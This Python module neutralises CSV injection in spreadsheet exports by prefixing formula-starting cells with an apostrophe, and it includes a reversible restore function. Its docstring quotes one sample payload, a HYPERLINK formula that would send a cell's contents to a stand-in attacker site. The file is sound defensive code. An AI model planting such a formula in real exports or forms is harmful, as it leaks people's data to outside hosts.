"""CSV cells that a spreadsheet shows as text and never runs as a formula (CSV injection).

A cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
programs skip before looking) is a formula to Excel, LibreOffice and Google Sheets: a sign-up
named ``=HYPERLINK("https://ev.il/?"&C2, "klik")`` would send the coordinator's export to
another site. As OWASP advises, such a cell gets a leading apostrophe, which spreadsheets take as
"this is text". The full-width forms count too, as some spreadsheets read them as the ASCII ones.

The export stays lossless for a program: a cell that already started with an apostrophe gets one
more, so ``restore`` (drop one leading apostrophe, if there is one) gives back every value.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
TEXT_MARK = "'"


def neutralise(value: object) -> str:
    """The cell for ``value`` (None is an empty cell), safe to open in a spreadsheet."""
    text = "" if value is None else str(value)
    if text.startswith((*FORMULA_STARTS, TEXT_MARK)):
        return TEXT_MARK + text
    return text


def restore(cell: str) -> str:
    """The value ``neutralise`` was given, from the cell it wrote."""
    return cell[1:] if cell.startswith(TEXT_MARK) else cell
